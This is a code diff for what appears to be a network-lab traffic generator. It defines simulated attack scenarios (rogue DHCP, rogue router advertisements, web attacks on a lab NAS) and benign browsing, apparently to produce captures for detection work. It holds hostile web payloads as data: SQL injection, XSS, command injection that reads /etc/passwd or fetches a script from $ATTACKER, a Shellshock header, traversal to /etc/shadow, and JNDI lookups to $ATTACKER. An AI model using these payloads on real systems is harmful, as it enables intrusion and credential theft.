@@ -114,15 +114,17 @@ const iodine = (type: string | null): Scenario => ({
   },
 });
 
-/** curl against the NAS's lighttpd: every path once with each header set (plus once plain). */
-function web(paths: string[], headers: string[] = []): Scenario {
+/** curl against the NAS's lighttpd: every path once with each header set (or once plain); no shell in between. */
+function web(paths: string[], headers: string[][] = [[]]): Scenario {
   return {
     servers: ["lighttpd"], host: "attacker", snap: 1024, count: 600,
     steps: async (lab) => {
       const v = vars(lab);
-      const sets = headers.length ? headers : [""];
-      const lines = paths.flatMap((p) => sets.map((h) => `curl -s -o /dev/null --path-as-is -g ${fill(h, v)} "http://${v.NAS}${fill(p, v)}"`));
-      await lab.run("attacker", lines.join("; "), 60_000);
+      for (const p of paths) {
+        for (const h of headers) {
+          await lab.exec("attacker", ["curl", "-s", "-o", "/dev/null", "--path-as-is", "-g", ...h.map((x) => fill(x, v)), `http://${v.NAS}${fill(p, v)}`]);
+        }
+      }
     },
   };
 }
@@ -209,8 +211,8 @@ export const SCENARIOS: Record<string, Scenario> = {
       await lab.run("client", "busybox udhcpc -i eth0 -f -q -n -t 4 -T 1 -s /bin/true", 20_000);
       lab.daemon("attacker", ["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--port=0", "--interface=eth0", "--bind-interfaces",
         `--dhcp-range=${LAN}.200,${LAN}.250,255.255.255.0,1h`, `--dhcp-option=3,${HOSTS.attacker.ip}`, `--dhcp-option=6,${HOSTS.attacker.ip}`,
-        `--dhcp-leasefile=${lab.work}/rogue.leases`, `--pid-file=${lab.work}/rogue.pid`, "--user=root"]);
-      await Bun.sleep(800);
+        `--dhcp-leasefile=${lab.work}/rogue.leases`, `--pid-file=${lab.work}/rogue.pid`]);
+      await Bun.sleep(1500);
       for (let i = 0; i < 2; i++) await lab.run("client", "busybox udhcpc -i eth0 -f -q -n -t 4 -T 1 -s /bin/true", 20_000);
     },
   },
@@ -220,21 +222,26 @@ export const SCENARIOS: Record<string, Scenario> = {
       await Bun.sleep(6000); // the router's own advertisements
       await lab.run("attacker", "ip addr add fd66::66/64 dev eth0 nodad");
       lab.daemon("attacker", ["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--port=0", "--interface=eth0", "--bind-interfaces",
-        "--enable-ra", "--dhcp-range=fd66::,ra-only,64", `--pid-file=${lab.work}/rogue-ra.pid`, "--user=root"]);
-      await Bun.sleep(12_000);
+        "--enable-ra", "--dhcp-range=fd66::,ra-only,64", `--pid-file=${lab.work}/rogue-ra.pid`]);
+      await Bun.sleep(3000);
+      // Hosts joining the link solicit routers: both answer.
+      for (const h of ["client", "phone"] as Host[]) {
+        await lab.run(h, "ip link set eth0 down; ip link set eth0 up");
+        await Bun.sleep(4000);
+      }
     },
   },
   "web-sqli": web([`/products.php?id=1'+OR+'1'='1`, "/products.php?id=1+UNION+SELECT+username,password+FROM+users--",
     "/login.php?user=admin'--&pass=x", "/item?id=1;+DROP+TABLE+users"]),
   "web-xss": web(["/search?q=<script>alert(document.cookie)</script>", "/comment?text=<img+src=x+onerror=alert(1)>",
-    "/profile?name=\"><svg/onload=alert('xss')>"]),
+    `/profile?name="><svg/onload=alert('xss')>`]),
   "web-rce": web(["/cgi-bin/ping.cgi?host=127.0.0.1;cat+/etc/passwd", "/index.php?cmd=|id", "/run?exec=$(wget+http://$ATTACKER/x.sh)"],
-    ["-A '() { :; }; /bin/bash -c \"cat /etc/passwd\"'"]),
+    [[], ["-A", `() { :; }; /bin/bash -c "cat /etc/passwd"`]]),
   "web-traversal": web(["/../../../../etc/passwd", "/download?file=../../../../etc/shadow", "/static/..%2f..%2f..%2fetc%2fpasswd"]),
-  "web-jndi": web(["/"], ["-A '${jndi:ldap://$ATTACKER:1389/Exploit}'", "-H 'X-Api-Version: ${jndi:ldap://$ATTACKER:1389/a}'"]),
+  "web-jndi": web(["/", "/login"], [["-A", "${jndi:ldap://$ATTACKER:1389/Exploit}"], ["-H", "X-Api-Version: ${jndi:ldap://$ATTACKER:1389/a}"]]),
 
   "benign-browsing": {
-    servers: ["web"], host: "laptop", snap: 256, count: 3500,
+    servers: ["web"], host: "laptop", snap: 1024, count: 3000,
     before: async (lab) => registerNames(lab, SITES),
     steps: async (lab) => {
       await lab.run("laptop", curlLoop(SITES, "https", "/index.html", "-A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'"), 120_000);
@@ -298,7 +305,7 @@ export const SCENARIOS: Record<string, Scenario> = {
     },
   },
   "benign-cdn-names": {
-    servers: ["web"], host: "phone", snap: 256, count: 3500,
+    servers: ["web"], host: "phone", snap: 1024, count: 3000,
     before: async (lab) => registerNames(lab, cdnNames(80, 80)),
     steps: async (lab) => {
       const names = cdnNames(80, 80);
